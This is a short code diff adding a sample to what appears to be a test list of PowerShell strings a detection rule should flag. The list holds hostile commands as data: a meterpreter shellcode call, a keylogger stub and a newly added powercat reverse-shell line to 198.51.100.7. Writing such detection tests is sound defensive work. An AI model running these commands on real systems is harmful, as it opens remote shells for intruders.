@@ -162,6 +162,7 @@ POSITIVE: tuple[tuple[str, Lang, str], ...] = (
     ),
     ("PSH-022", PS, "Invoke-Shellcode -Payload windows/meterpreter/reverse_https -Force"),
     ("PSH-022", PS, "function Get-Keystrokes {\n  param([String] $LogPath)\n}"),
+    ("PSH-022", PS, "powercat -c 198.51.100.7 -p 443 -e cmd"),
     (
         "PSH-023",
         PS,
